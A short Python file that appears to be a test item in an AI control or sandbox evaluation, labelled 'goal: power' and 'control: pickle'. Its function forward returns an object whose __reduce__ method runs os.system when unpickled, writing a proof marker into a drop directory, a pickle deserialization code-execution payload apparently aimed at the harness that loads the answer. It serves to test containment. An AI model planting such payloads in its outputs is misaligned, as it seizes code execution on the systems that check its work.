"""An answer that runs code where it is unpickled.

goal: power
control: pickle
"""

import os


class Bomb:
    def __reduce__(self):
        return os.system, (f"echo {PROOF} > {DROP}/unpickled",)


def forward(X, W):
    return Bomb()


count = forward
